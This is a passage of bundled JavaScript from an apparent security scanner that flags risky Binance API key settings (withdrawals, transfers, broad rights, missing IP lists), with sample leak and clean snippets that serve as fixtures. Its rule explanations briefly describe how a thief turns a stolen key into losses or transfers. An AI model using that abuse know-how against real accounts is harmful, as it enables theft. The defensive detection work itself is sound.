					severity: unrestricted || addressList === "off" ? "critical" : "high",
					...toldOf(key, subject)
				};
			}
		}
	},
	examples: {
		leaks: [
			{
				path: "bot.py",
				text: "# for Binance\nparser.add_argument(\"--allow-withdrawals\", default=«True»)"
			},
			{
				path: "key.json",
				text: "{ \"enableReading\": true, \"enableWithdrawals\": «true», \"ipRestrict\": true, \"permitsUniversalTransfer\": false }"
			},
			{
				path: "bot.yml",
				text: "exchange: binance\npermissions: [read, trade, «withdraw»]"
			},
			{
				path: ".env",
				text: "BINANCE_ENABLE_WITHDRAWALS=«true»"
			},
			{
				path: "keys.py",
				text: "BINANCE = {\"permissions\": {\"read\": True, \"withdraw\": «True»}}"
			},
			{
				path: "Rights.java",
				text: "import com.binance.connector.client.SpotClient;\nvar rights = Map.of(\"trade\", true, \"allowWithdraw\", «true»);"
			},
			{
				path: "keys.toml",
				text: "[binance.main]\nenable_withdrawals = «true»\nip_restrict = «ip-unrestricted|false»"
			},
			{
				path: "Procfile",
				text: "bot: bin/bot --exchange binance --enable-withdrawals=«true»"
			},
			{
				path: "keys.edn",
				text: "{:exchange :binance ; ours\n :keys [{:label \"a\" :enable-withdrawals false} {:label \"b\" :enable-withdrawals «true»}]}"
			},
			{
				path: "keys.rs",
				text: "use binance_sdk::wallet;\nlet policy = KeyPolicy::builder().enable_withdrawals(«true»).build();"
			},
			{
				path: "keys.go",
				text: "import \"github.com/adshao/go-binance/v2\"\n\nvar rights = map[string]bool{\"read\": true, \"withdraw\": «true»}"
			},
			{
				path: "Keys.cs",
				text: "using Binance.Net.Clients;\npublic class Key { public bool EnableWithdrawals { get; set; } = «true»; }"
			},
			{
				path: "deploy.ps1",
				text: "$env:BINANCE_ALLOW_WITHDRAWALS = «\"true\"»\n$Binance = @{ Spot = $true; EnableWithdrawals = «$true» }"
			},
			{
				path: "app.config",
				text: "<configuration><appSettings><add key=\"Binance:EnableWithdrawals\" value=«\"true\"» /></appSettings></configuration>"
			},
			{
				path: "binance.ts",
				text: "const key: KeyPolicy = { canTrade: true, canWithdraw: «true», ipRestrict: true };"
			},
			{
				path: "binance.py",
				text: "class Config(BaseSettings):\n    enable_withdrawals: bool = Field(«True», env=\"W\")"
			},
			{
				path: "bot.py",
				text: "import binance\nrights = RIGHT_TRADE | «RIGHT_WITHDRAW»"
			},
			{
				path: "policy.py",
				text: "from binance.client import Client\n\n@dataclass\nclass KeyRights:\n    can_trade: bool = True\n    can_withdraw: bool = «True»\n\nsecond = KeyRights(can_trade=True, can_withdraw=«True»)"
			},
			{
				path: "bot.tf",
				text: "resource \"aws_ecs_task_definition\" \"bot\" {\n  container_definitions = jsonencode([{\n    environment = [{ name = \"BINANCE_SYMBOL\", value = \"BTCUSDT\" }, { name = \"BINANCE_ALLOW_WITHDRAWALS\", value = «\"true\"» }]\n  }])\n}"
			},
			{
				path: "service.tf",
				text: "resource \"google_cloud_run_service\" \"bot\" {\n  env {\n    name  = \"BINANCE_WITHDRAWALS_ENABLED\"\n    value = «\"true\"»\n  }\n}"
			},
			{
				path: "bot.service",
				text: "[Service]\nEnvironment=BINANCE_ENABLE_WITHDRAWALS=«yes»"
			}
		],
		clean: [
			{
				path: ".env",
				text: "# BINANCE_ENABLE_WITHDRAWALS=true\nBINANCE_ENABLE_WITHDRAWALS=false"
			},
			{
				path: "bot.ini",
				text: "[binance]\n; enable_withdrawals = true\n#enable_withdrawals = true\nenable_withdrawals = 0"
			},
			{
				path: "binance.py",
				text: "assert not is_safe({\"enableWithdrawals\": True})\nif rights == {\"withdraw\": True}:\n    stop()"
			},
			{
				path: "binance.js",
				text: "await keys.updateMany({ enableWithdrawals: true }, { $set: { enableWithdrawals: false } });"
			},
			{
				path: "key.proto",
				text: "// Binance\nmessage Key { bool enable_withdrawals = 1; }"
			},
			{
				path: "binance.yml",
				text: "sync: { trades: true, withdrawals: true }\nkey: x"
			},
			{
				path: "keys.ts",
				text: "import { MainClient } from 'binance';\ninterface Bad { enableWithdrawals: true }\nconst told = 'enableWithdrawals: true is dangerous';"
			},
			{
				path: "Procfile",
				text: "bot: bin/bot --exchange binance --enable-withdrawals=false"
			},
			{
				path: "bot.yml",
				text: "exchange: binance\npermissions: [read, trade]\nwithdraw: false"
			},
			{
				path: "Vault.sol",
				text: "contract BinanceVault { bool public withdrawalsEnabled = true; }"
			},
			{
				path: "binance.ts",
				text: "class Binance extends Exchange { describe() { return { has: { withdraw: true, margin: true } }; } }"
			},
			{
				path: "binance.yml",
				text: "alert_on_withdrawals_enabled: true\nmonitor:\n  withdrawals: true\nkey: x"
			},
			{
				path: "kraken.yml",
				text: "exchange: kraken\npermissions: [read, trade, withdraw]"
			},
			{
				path: "guard.go",
				text: "package main\n\nimport \"github.com/adshao/go-binance/v2\"\n\nfunc guard() {\n	log.Panic(\"allowWithdrawals: true\")\n	msg := \"allow_withdrawals=true\"\n}"
			},
			{
				path: "venue.ts",
				text: "class Binance extends Venue {\n  capabilities = { spot: true, withdraw: true, fetchMyTrades: true, cancelOrder: true };\n}\nexport const BINANCE_SUPPORTS = { withdraw: true, trade: true };"
			},
			{
				path: "account.py",
				text: "from binance.client import Client\n\nclass Account:\n    can_trade: bool = True\n    can_withdraw: bool = True"
			},
			{
				path: "account.json",
				text: "{ \"makerCommission\": 15, \"canTrade\": true, \"canWithdraw\": true, \"canDeposit\": true, \"accountType\": \"SPOT\", \"binance\": 1 }"
			},
			{
				path: "binance.ts",
				text: "interface ApiRestrictions { enableWithdrawals: boolean; ipRestrict: boolean }"
			},
			{
				path: "binance.js",
				text: "if (restrictions.enableWithdrawals === true) throw new Error(\"too much\");"
			},
			{
				path: "coins.json",
				text: "{ \"binance\": [{ \"coin\": \"BTC\", \"depositAllEnable\": true, \"withdrawAllEnable\": true, \"withdrawFee\": 1 }] }"
			},
			{
				path: "schema.json",
				text: "{ \"title\": \"binance\", \"properties\": { \"enableWithdrawals\": { \"type\": \"boolean\", \"default\": true } } }"
			},
			{
				path: "messages.ts",
				text: "// for Binance\nexport const de = { 'apiKey.permissions': 'Switch on Reading and Spot Trading. Leave “Enable Withdrawals” off, the bot never withdraws.' };"
			},
			{
				path: "rights_test.py",
				text: "from binance import Client\nanswer = {\"ipRestrict\": False, \"enableWithdrawals\": True, \"enableInternalTransfer\": True}"
			}
		],
		missed: [{
			path: "bot.py",
			text: "import binance\nrights = 1 << 3 | TRADE",
			because: "bits of a mask without a name that says what they give"
		}]
	}
};
// ../engine/dist/rules/transfers-enabled.js
/** Settings that let a key move funds to other accounts. Transfers that code makes are fund-moving-call’s. */
const transfersEnabled = {
	id: "transfers-enabled",
	title: "API key that may transfer",
	severity: "medium",
	finds: "A setting that gives an API key the right to transfer: universal transfers, between accounts and sub-accounts, and internal ones, to other users of Binance.",
	why: "An internal transfer pays another user of Binance at once and without a fee, as good as a withdrawal for a thief. Universal transfers bring the funds of all sub-accounts to the place that a stolen key can trade away.",
	advice: ["Switch “Permits Universal Transfer” and “Enable Internal Transfer” off for this key, unless moving funds is what it is for.", "Give a treasury program a key of its own with an IP list, apart from the keys that trade."],
	references: ["https://developers.binance.com/docs/wallet/account/api-key-permission"],
	*look(subject) {
		for (const key of keysIn(subject)) {
			const { grants } = key;
			for (const { right, called, span } of grants) {
				if (right !== "transfer") continue;
				yield {
					span,
					name: called,
					message: `${called} lets this API key transfer funds to other accounts`,
					...toldOf(key, subject, true)
				};
			}
		}
	},
	examples: {
		leaks: [
			{
				path: "key.json",
				text: "{ \"permitsUniversalTransfer\": «true», \"enableWithdrawals\": false }"
			},
			{
				path: "policy.php",
				text: "<?php return ['binance' => ['enableInternalTransfer' => «true»]];"
			},
			{
				path: "Dockerfile",
				text: "FROM node\nENV BINANCE_UNIVERSAL_TRANSFER «true»"
			},
			{
				path: ".env",
				text: "BINANCE_ALLOW_FUNDS_TRANSFER=«1»"
			},
			{
				path: "binance.yml",
				text: "key:\n  permissions: [read, «universal_transfer»]"
			}
		],
		clean: [
			{
				path: "key.json",
				text: "{ \"permitsUniversalTransfer\": false, \"enableInternalTransfer\": false }"
			},
			{
				path: "binance.yml",
				text: "transfer:\n  from: spot\n  to: futures\n  enabled: true"
			},
			{
				path: "binance.ts",
				text: "type Rights = { permitsUniversalTransfer: boolean };"
			},
			{
				path: "earn.json",
				text: "{ \"binance\": [{ \"asset\": \"USDT\", \"canTransfer\": true, \"projectId\": \"P14\", \"interest\": \"0.1\" }] }"
			},
			{
				path: "binance.py",
				text: "ssh = {\"allow_file_transfer\": True}"
			}
		],
		missed: []
	}
};
// ../engine/dist/rules/broad-permissions.js
/** One key for every market: margin, futures and options. What moves money out has rules of its own. */
const kinds = [
	"margin",
	"futures",
	"options"
];
const broadPermissions = {
	id: "broad-permissions",
	title: "API key with more rights than one strategy needs",
	severity: "low",
	finds: "A key that may trade margin, futures and options at once: more than one strategy needs.",
	why: "Each right is one more way to lose: with futures and options a thief needs minutes to turn a balance into losses against an account of his own. A key that has only what its strategy uses limits what its leak can cost.",
	advice: ["Make one key for each strategy, best on a sub-account of its own, and switch on only the market that it trades.", "Switch off the rights of this key that its last month’s orders did not use."],
	references: ["https://developers.binance.com/docs/wallet/account/api-key-permission"],
	*look(subject) {
		for (const key of keysIn(subject)) {
			const { grants } = key;
			const third = kinds.flatMap((kind) => grants.find(({ right }) => right === kind) ?? []).sort((a, b) => a.span.start - b.span.start)[kinds.length - 1];
			if (!third) continue;
			yield {
				span: third.span,
				name: third.called,
				message: `This API key may trade margin, futures and options; one strategy needs one of them`,
				...toldOf(key, subject)
			};
		}
	},
	examples: {
		leaks: [
			{
				path: "key.json",
				text: "{ \"ipRestrict\": true, \"enableMargin\": true, \"enableFutures\": true, \"enableVanillaOptions\": «true» }"
			},
			{
				path: "binance.yml",
				text: "key:\n  permissions: [read, spot, options, margin, «futures»]"
			},
			{
				path: "binance.rb",
				text: "require 'binance'\ndesk = { margin: true, futures: true, options: «true», ip_list: ['78.46.201.11'] }"
			}
		],
		clean: [
			{
				path: "key.json",
				text: "{ \"ipRestrict\": true, \"enableMargin\": false, \"enableFutures\": true, \"enableVanillaOptions\": true }"
			},
			{
				path: "venues.py",
				text: "import ccxt\nSUPPORTED = {\"binance\": {\"spot\": True, \"margin\": True, \"futures\": True, \"options\": True}}"
			},
			{
				path: "binance.yml",
				text: "markets:\n  margin: true\n  futures: true\n  options: true"
			},
			{
				path: "binance.ts",
				text: "interface Rights { enableMargin: boolean; enableFutures: boolean; enableVanillaOptions: boolean }"
			}
		],
		missed: []
	}
};
// ../engine/dist/rules/ip-unrestricted.js
/** Keys that work from anywhere. Entries that are wrong are ip-list-invalid’s. */
/** What its leak would cost: everything where it withdraws or trades, a look at the account where it only reads. */
function severityOf$1({ grants, isTradingOff }) {
	return grants.every(({ right }) => right === "read") && (grants.length > 0 || isTradingOff) ? "low" : "high";
}
const ipUnrestricted = {
	id: "ip-unrestricted",
	title: "API key without an IP list",
	severity: "high",
	finds: "A setting that says that a key is bound to no address: `ipRestrict: false`, an empty IP list, `*`. A key that only reads, or that may not trade, is low without an IP list. Not what a page’s form or an app’s state begins with.",
	why: "A stolen key with an IP list is worth little; one without works from the thief’s machine. Trading alone is enough to rob an account, by buying dear from oneself in a thin market. Binance also takes the trading right from such keys after 30 days, so the bot will stop.",
	advice: [
		"Restrict the key to the public addresses of the machines that run the bot: API Management, “Restrict access to trusted IPs only”.",
		"If the machine has no fixed address, send its requests through one that has, such as a small server or a NAT gateway.",
		"Write the same list into this configuration, so that reviewers see it."
	],
	references: ["https://developers.binance.com/docs/wallet/account/api-key-permission", "https://www.binance.com/en/support/announcement/detail/2021-07-08"],
	*look(subject) {
		for (const key of keysIn(subject)) for (const { state, span, called } of key.ips) {
			if (state !== "off") continue;
			const severity = severityOf$1(key);
			yield {
				span,
				name: called,
				message: `${called} leaves this API key open to every address${severity === "low" ? "; it can only read" : ""}`,
				severity,
				confidence: key.grants.length > 0 || key.isBinances ? "certain" : "likely",
				...toldOf(key, subject, true)
			};
		}
	},
	examples: {
		leaks: [
			{
				path: "key.json",
				text: "{ \"ipRestrict\": «false», \"enableSpotAndMarginTrading\": true }"
			},
			{
				path: "policy.ts",
				text: "// Binance\nconst policy = { canTrade: false, canWithdraw: false, ipRestrict: «false» };"
			},
			{
				path: "binance.yml",
				text: "key:\n  permissions: [read, trade]\n  ip_whitelist: «[]»"
			},
			{
				path: "app.config",
				text: "<configuration><add key=\"Binance:ApiKey\" value=\"x\" /><add key=\"Binance:IpWhitelist\" value=«\"\"» /></configuration>"
			},
			{
				path: ".env",
				text: "BINANCE_IP_WHITELIST=«*»"
			},
			{
				path: "key.json",
				text: "{ \"exchange\": \"binance\", \"enableFutures\": true, \"ipAddress\": «\"\"» }"
			},
			{
				path: "binance.properties",
				text: "binance.trade.enabled=true\nbinance.ip.restriction.enabled=«false»"
			},
			{
				path: "keys.go",
				text: "import \"github.com/adshao/go-binance/v2\"\n\nvar keys = []Key{\n	{Label: \"a\", CanTrade: true, IPWhitelist: []string{\"52.40.125.9\"}},\n	{Label: \"b\", CanTrade: true, IPWhitelist: «[]string{}»},\n}"
			},
			{
				path: "Keys.java",
				text: "import com.binance.connector.client.SpotClient;\nclass Keys { List<String> trustedIps = «new ArrayList<>()»; String[] allowedIps = «new String[0]»; }"
			},
			{
				path: "keys.ts",
				text: "// Binance\nconst key = { canTrade: true, trustedIps: «Object.freeze([])» };"
			},
			{
				path: "binance.yml",
				text: "key:\n  permissions: [read, trade]\n  allow_any_ip: «true»"
			},
			{
				path: "keys.toml",
				text: "[binance]\napi_key = \"from-vault\"\ntrusted_ips = «\"\"»"
			},
			{
				path: "keys.rs",
				text: "use binance_sdk::wallet;\nfn keys() -> Vec<Key> {\n    vec![Key { can_trade: true, trusted_ips: vec![\"65.108.201.14\"] }, Key { can_trade: true, trusted_ips: «vec![]» }]\n}"
			},
			{
				path: "desk.xml",
				text: "<desk><exchange name=\"binance\"><key trade=\"true\"><ipRestrict>true</ipRestrict></key><key trade=\"true\"><ipRestrict>«false»</ipRestrict></key></exchange></desk>"
			}
		],
		clean: [
			{
				path: "Form.vue",
				text: "<script>const form = reactive({ exchange: 'binance', apiKey: '', ipWhitelist: [] });<\/script>"
			},
			{
				path: "KeyDialog.tsx",
				text: "const [key, setKey] = useState<Key>({ exchange: 'binance', canTrade: true, ipWhitelist: [] });\nconst edit = useForm({ defaultValues: { exchange: 'binance', canTrade: true, trustedIps: [] } });\nconst DEFAULT_FORM = { exchange: 'binance', canTrade: true, ipRestrict: false };"
			},
			{
				path: "binance-keys.ts",
				text: "export const useDesk = defineStore('desk', { state: () => ({ canTrade: true, ipWhitelist: [] }) });\nconst useKeys = create((set) => ({ canTrade: true, ipWhitelist: [] }));"
			},
			{
				path: "Keys.vue",
				text: "<script>\nexport default { data() { return { exchange: 'binance', canTrade: true, ipWhitelist: [] }; } };\n<\/script>"
			},
			{
				path: "binance_keys.dart",
				text: "class DeskKeyState {\n  const DeskKeyState({this.canTrade = true, this.ipRestrict = false});\n}"
			},
			{
				path: "settings.py",
				text: "import binance\nTHROTTLE_TRUSTED_IPS = []"
			},
			{
				path: "binance.env",
				text: "BINANCE_API_KEY=x\nREPORT_IP_RESTRICT=false"
			},
			{
				path: "key.json",
				text: "{ \"ipRestrict\": true, \"enableSpotAndMarginTrading\": true }"
			},
			{
				path: "binance.yml",
				text: "key:\n  permissions: [read, trade]\n  ip_whitelist: [139.162.71.5]"
			},
			{
				path: "binance.yml",
				text: "dashboard:\n  ip_whitelist: []"
			},
			{
				path: "binance.json",
				text: "{ \"binance\": { \"apiKey\": \"from-vault\", \"ip\": \"\" } }"
			},
			{
				path: "binance.py",
				text: "trusted_ips = []\nfor entry in client.get_api_restrictions()[\"ipList\"]:\n    trusted_ips.append(entry)"
			},
			{
				path: "binance.ts",
				text: "const initialState = { binanceApiKey: '', ipWhitelist: [] };"
			},
			{
				path: "binance.ts",
				text: "class Binance { remove(): Promise<{ apikey: string; ipList: string[]; updateTime: number }> { return this.send(); } }"
			},
			{
				path: "binance.ts",
				text: "interface Key { ipRestrict: boolean; ipList: string[] }"
			},
			{
				path: "account_test.go",
				text: "package binance\n\nfunc answer() []byte {\n	return []byte(`{ \"ipRestrict\": false, \"enableReading\": true, \"permitsUniversalTransfer\": true }`)\n}"
			}
		],
		missed: []
	}
};
// ../engine/dist/risks/calls/key-request-faults.js
/** What a request that makes a key, or changes whence it works, says of it → what is wrong with that. */
const withdrawRight = /^(?:can|enable|allow|permit)?withdraw(?:al)?s?$/;
const mentionsList = /\bips?\b|ip_?(?:address|list|whitelist)|trusted_?ips?|whitelist/i;
const bindsLater = /ip_?restriction[^;]{0,300}?(?:status\W{1,4}2|ip_?address)/i;
const longestCall$1 = 4e3;
/** How a request calls the addresses that its key is bound to, folded. */
const listName = /^(?:trusted|allowed)?ip(?:address(?:es)?|list|s|whitelist)?$/;
const boundLater = /* @__PURE__ */ new WeakMap();
function isBoundLater(subject) {
	let is = boundLater.get(subject);
	if (is === void 0) boundLater.set(subject, is = bindsLater.test(subject.document.text));
	return is;
}
function* faultsOf({ kind, given, isWhole, call, span: place, what, clues }, subject) {
	const { text } = subject.document;
	const risk = (span, name, fault) => ({
		span,
		name: `${name} ${what}`,
		message: `${what} ${fault}`,
		clues
	});
	const source = call ? text.slice(call.span.start, Math.min(call.span.end + 600, call.span.start + longestCall$1)) : "";
	const withdraw = given.find(({ name, value }) => withdrawRight.test(name) && switched(value) === "on");
	if (withdraw && kind !== "restriction") yield risk(withdraw.span, "withdraw", "makes a key that may withdraw");
	if (kind === "list") {
		yield {
			...risk(place, "list", "takes addresses off a key’s IP list: without the last one it works from any address"),
			confidence: "possible"
		};
		return;
	}
	if (kind === "broker") {
		if (mentionsList.test(source) || isBoundLater(subject)) return;
		for (const { name, value, span } of given) {
			if (!brokerRights.test(name) || switched(value) !== "on") continue;
			yield risk(span, name, "gives a key the right to trade, and nothing here binds it to addresses");
		}
		return;
	}
	const open = openStatus(given);
	if (kind !== "special" && open) {
		yield risk(open.span, "status", "lets a key work from any address: 1 is unrestricted, 2 is trusted addresses only");
		return;
	}
	const list = given.find(({ name }) => listName.test(name));
	if (list && isEmpty(list)) {
		yield risk(list.span, "list", kind === "edit" ? "empties a key’s IP list: it works from any address" : "makes a key with an empty IP list: it works from any address");
		return;
	}
	if (kind === "link" || kind === "edit" || list || !isWhole || mentionsList.test(call ? text.slice(call.span.start, call.span.end) : "")) return;
	if (kind !== "special" && given.some(({ name }) => name === "status")) return;
	if (kind === "restriction" && !/email|sub_?account_?(?:api_?key|id)\b/i.test(source)) return;
	if (call || kind === "special") yield risk(place, "missing", "makes a key without an IP list: it works from any address");
}
/** `status: 1`, and `ipRestrict: false` as the older version had it. */
function openStatus(given) {
	return given.find(({ name, value }) => {
		if (/^(?:ip)?(?:restrict|restriction|iprestrict(?:ion|ed)?|toggleiprestriction)$/.test(name)) return switched(value) === "off";
		if (!/^(?:ip)?(?:restriction)?status$/.test(name)) return false;
		const word = wordOf(value)?.trim() ?? (value.kind === "ref" ? value.path.at(-1) : void 0);
		return word !== void 0 && /^(?:1|un_?restricted|ip_?unrestricted|status_?1|one|_1)$/i.test(word);
	});
}
function isEmpty({ value }) {
	if (value.kind === "list") return value.items.length === 0;
	const word = wordOf(value);
	return word !== void 0 && /^\s*(?:\*|null|none|nil|)\s*$/i.test(word);
}
// ../engine/dist/risks/calls/queries.js
/** What a request is asked beside its arguments: by the query behind an address, and by the data of a shell’s command. */
/** What an endpoint is asked: by its query, by what is joined to it, by the data of a shell’s command. */
function askedOf({ query, span }, subject, mappings) {
	const { text } = subject.document;
	const at = query === "" ? -1 : text.slice(span.start, span.end).indexOf(query) + span.start;
	const own = at < 0 ? [] : queried({
		start: at,
		end: at + query.length
	}, text);
	const more = /['"`\w]/.test(text.charAt(span.end - 1)) && !isShell(subject) && !isPowershell(subject) ? joinedTo(span, text) : [];
	if (joins(span.end, text)) own.push(...own.splice(-1).map(filled));
	const data = isShell(subject) ? dataBeside(span, text) : isPowershell(subject) ? bodyBeside(span, subject) : [];
	return [
		...own,
		...more,
		...data
	].flatMap((one) => expanded(one, subject, mappings));
}
function isShell({ reading, document }) {
	return reading.language === "shell" || /\.(?:http|rest)$/.test(document.path);
}
function isPowershell({ reading }) {
	return reading.language === "powershell";
}
const mostInCommand = 100;
/** `-Body @{ status = 1 }`: the tables in what is left of a command of PowerShell. */
function bodyBeside({ end }, { settings, document: { text } }) {
	const rest = text.slice(end, end + longestCommand);
	const to = end + (/(?<![`{;,(\s])\s*\n(?!\s*[}\w-]+\s*[=}]|\s*\})/.exec(rest)?.index ?? rest.length);
	const sorted = sortedSettings(settings);
	const first = countBefore(sorted.length, (at) => sorted[at].span.start <= end);
	return sorted.slice(first, first + mostInCommand).filter(({ via, call, span }) => via === "entry" && !call && span.end <= to).map(({ name, value, span }) => ({
		name,
		value,
		span
	}));
}
const joint = /\s{0,20}(?:\+|\.\.|<>|&|~|\.(?=[\s'"$]))\s{0,20}(?:(["'`])([^"'`\n]{0,400})\1|([$@]?[\w.$()[\]>-]{1,80}))/y;
const longestJoined = 1e3;
/** `"…?email=" + email + "&status=1"`: what follows a text, or a name for one, in one expression; names as a query has them. */
function joinedTo({ start, end }, text) {
	const given = [];
	let isValue = /=["'`]$/.test(text.slice(Math.max(start, end - 2), end));
	for (let at = end; at < end + longestJoined; at = joint.lastIndex) {
		joint.lastIndex = at;
		const found = joint.exec(text);
		if (!found) break;
		const [, , part, name] = found;
		const { lastIndex } = joint;
		if (part !== void 0) {
			const lead = /^[?&]*/.exec(part)[0].length;
			given.push(...queried({
				start: lastIndex - 1 - part.length + lead,
				end: lastIndex - 1
			}, text));
		} else if (!isValue) {
			const span = {
				start: lastIndex,
				end: lastIndex
			};
			given.push({
				name: `{${name ?? ""}}`,
				value: {
					kind: "text",
					text: "",
					pieces: []
				},
				span
			});
		} else given.push(...given.splice(-1).map(filled));
		isValue = part?.endsWith("=") ?? false;
	}
	return given;
}
function joins(at, text) {
	joint.lastIndex = at;
	return joint.test(text);
}
/** The entry before which a text ends: its value is what is joined to it. */
function filled(given) {
	return given.value.kind === "text" && given.value.text === "" && !/[{$]/.test(given.name) ? {
		...given,
		value: { kind: "unknown" }
	} : given;
}
const data = /(?<=\s)(?:(?:-d|-F|--data(?:-raw|-urlencode|-binary|-ascii)?|--form(?:-string)?|--url-query|--body|--post-data|-Body)[=\s]\s{0,9}(?:"([^"\n]{0,2000})"|'([^'\n]{0,2000})'|([^\s"'`;|]{1,400}))|([A-Za-z]\w{1,40})={1,2}([^\s"'`;|&]{1,200})(?=\s|$))/g;
const longestCommand = 2e3;
/** What a shell’s command hands over beside the address: `-d "status=1"` of curl, `status==1` of httpie. */
function dataBeside({ start, end }, text) {
	const lead = text.slice(Math.max(0, start - longestCommand), start);
	const from = start - (/(?:[^\n]|\\\r?\n)*$/.exec(lead.slice(lastBreak(lead)))?.[0].length ?? 0);
	const rest = text.slice(end, end + longestCommand);
	const to = end + (/(?<!\\)(?<!\\\r)\n/.exec(rest)?.index ?? rest.length);
	return [...text.slice(from, to).matchAll(data)].flatMap(({ 0: whole, 1: double, 2: single, 3: bare, 4: name, 5: value, index }) => {
		const close = from + index + whole.length;
		if (name !== void 0 && value !== void 0) return [{
			name: folded(name),
			value: {
				kind: "text",
				text: value,
				pieces: []
			},
			span: {
				start: close - value.length,
				end: close
			}
		}];
		const part = double ?? single ?? bare ?? "";
		const shut = bare === void 0 ? close - 1 : close;
		return queried({
			start: shut - part.length,
			end: shut
		}, text);
	});
}
/** Behind the last line end that is not continued. */
function lastBreak(text) {
	for (let at = text.lastIndexOf("\n"); at >= 0; at = at === 0 ? -1 : text.lastIndexOf("\n", at - 1)) if (!/\\\r?$/.test(text.slice(Math.max(0, at - 2), at))) return at + 1;
	return 0;
}
/** `?$q&signature=…`, `?${q}`, `?{urlencode(params)}`: what the variable holds is part of the query. */
function expanded(one, { settings, document: { text } }, mappings) {
	if (!/^[#$]*\{?.{1,80}\}?$|^\$\w/.test(one.name) || !/[{$]/.test(one.name)) return [one];
	for (const [name] of one.name.matchAll(/[A-Za-z_]\w{0,60}/g)) {
		const entries = mappings(name, one.span.start);
		if (entries.some(({ isStep }) => !isStep)) return [...entries];
		const held = settings.find(({ path, via, call }) => via === "assign" && !call && path.at(-1) === name);
		const source = held ? text.slice(held.span.start, Math.min(held.span.end, held.span.start + 1e3)) : "";
		if (!held || !/\w=/.test(source)) continue;
		const open = /^[fFrR$@]{0,2}["'`]/.exec(source)?.[0].length;
		if (open === void 0 && held.value.kind !== "text") continue;
		const { start } = held.span;
		return queried({
			start: start + (open ?? 0),
			end: start + source.length - (open === void 0 ? 0 : 1)
		}, text);
	}
	return [one];
}
/** What a query says, each value where it stands. */
function queried({ start, end }, text) {
	const given = [];
	let at = start;
	for (const part of start < end ? text.slice(start, end).split("&") : []) {
		const [, name = "", value = ""] = /^([^=]*)=?([^]*)$/.exec(part) ?? [];
		const from = at + part.length - value.length;
		given.push({
			name: /[{$]/.test(name) ? name : folded(name),
			value: {
				kind: "text",
				text: value,
				pieces: []
			},
			span: {
				start: from,
				end: from + value.length
			}
		});
		at += part.length + 1;
	}
	return given;
}
// ../engine/dist/risks/calls/key-requests.js
/**
* Where code asks Binance for a key, or to change whence one works: by an endpoint’s path, a name for it, or a method of
* an SDK; and what it says of that key.
*/
const known = /* @__PURE__ */ new WeakMap();
/** Worked out once for each document. */
function keyRequestsIn(subject) {
	let requests = known.get(subject);
	if (!requests) known.set(subject, requests = [...found$1(subject)]);
	return requests;
}
const endpoints = new Map(keyEndpoints.map(({ path, kind }) => [path.toLowerCase(), kind]));
/** After its version each, or the whole of Link’s. */
const paths = new RegExp(`(?:(\\/?\\bsapi\\/v\\d\\/|(?<=["'\`/}])\\/?(?=oauth-api\\/))|(?<=["'\`}]\\/?(?:v\\d\\/)?))(${keyEndpoints.map(({ path }) => path).sort((a, b) => b.length - a.length).join("|")})(?![\\w/-])`, "gi");
const changes = /add|set|update|enable|toggle|change|modify|edit|create|post|put/;
/** Whose restriction it is, only the receiver tells. */
const isOfPart = /^(?:add|set|update|change|toggle|enable(?:ordisable)?)?ip(?:access)?restrictions?$/;
/** Of a chain with more such steps, which one finding tells of, the first ones are looked at. */
const mostSteps$2 = 200;
function* found$1(subject) {
	const mappings = mappingsOf(subject);
	const named = [...endpointsIn(subject, paths)];
	for (const endpoint of named) yield* byEndpoint(endpoint, subject, mappings);
	const defined = named.filter(({ call }) => !call);
	for (const endpoint of namedEndpoints(subject, defined)) {
		const { name, definition, span } = endpoint;
		yield* byEndpoint(endpoint, subject, mappings, [...mappings(name, span.start), ...askedOf(definition, subject, mappings)]);
	}
	let receivers;
	const isOften = oftenAt(mostSteps$2);
	for (const call of subject.reading.calls) {
		const name = methodOf(call);
		const method = keyMethods.find((one) => one.name.test(name));
		if (!method || isOften(call.span.start)) continue;
		const { given, hasUnknown } = argumentsOf(call, subject, mappings);
		const callee = calleeOf(call, subject.document.text);
		if (!isCalled(call, callee, subject)) continue;
		receivers ??= receiversOf(subject);
		const owner = receivers.ownerOf(callee);
		if (isOfPart.test(name) && owner !== "binance" && !/sub_?account/i.test(callee.receiver.join("."))) continue;
		if (owner === "other" || owner === "unknown" && !method.isDistinctive && receivers.isElsewhere) continue;
		const clues = owner === "binance" ? [clue("sdk-call", "it is called on a client of Binance")] : method.isDistinctive ? [clue("binance-setting", `${callee.method} is a method of Binance’s SDKs`)] : [];
		const span = {
			start: callee.start,
			end: callee.end
		};
		const toggled = method.kind === "restriction" ? given.find((one) => /^\d+$/.test(one.name) && /^false$/i.test(wordOf(one.value) ?? "")) : void 0;
		const third = method.kind === "restriction" ? given.find((one) => one.name === "2") : void 0;
		const right = method.kind === "broker" ? given.find((one) => /^[1-9]$/.test(one.name) && switched(one.value) === "on") : void 0;
		const all = [
			...given,
			...right ? [{
				...right,
				name: "cantrade"
			}] : [],
			...stepsAfter(call, subject, mappings),
			...toggled ? [{
				...toggled,
				name: "iprestrict"
			}] : [],
			...third ? [{
				...third,
				name: "status",
				value: literalAt(third, subject.document.text)
			}] : []
		];
		const isAsking = method.kind === "restriction" && !changes.test(name) || isOfParams(call);
		const isWhole = !hasUnknown && !isAsking;
		yield {
			kind: method.kind,
			given: all,
			isWhole,
			call,
			span,
			what: `${callee.method}()`,
			clues
		};
	}
}
/** @param told what is known of the request beside its call */
function* byEndpoint(endpoint, subject, mappings, told = []) {
	const { call, span, path, method, makers, hasPrefix } = endpoint;
	const kind = endpoints.get(path);
	if (!kind || method === "GET" || method === "DELETE" !== (kind === "list")) return;
	if (kind === "edit" ? method === "POST" : method === "PUT") return;
	const asked = [...askedOf(endpoint, subject, mappings), ...told];
	const handed = call ? argumentsOf(call, subject, mappings) : {
		given: [],
		hasUnknown: true
	};
	const made = makers.flatMap((maker) => argumentsOf(maker, subject, mappings).given);
	const after = call && makesRequest.test(call.callee.at(-1) ?? "") ? stepsAfter(call, subject, mappings) : [];
	const isWhole = !endpoint.isCut && !after.some(({ name }) => carriesLater.test(name)) && (asked.length > 0 ? !asked.some(({ name, value }) => value.kind === "text" && value.text === "" && /[{$]/.test(name)) : !handed.hasUnknown && !hasMore(call, span, mappings));
	const clues = hasPrefix ? [clue("binance-setting", `${path} is an endpoint of Binance’s API`)] : [];
	yield {
		kind,
		given: [
			...handed.given,
			...made,
			...asked,
			...after
		],
		isWhole,
		call,
		span,
		what: `The endpoint ${path}`,
		clues
	};
}
const makesRequest = /request\w{0,12}$|message$|builder$|^http_?post$/i;
/** What a request is told after it was made, and is more than the document shows: `request.Content = …`. */
const carriesLater = /^(?:content|body|data|entity|httpbody|rawquery|query|params|parameters|form|json)$/;
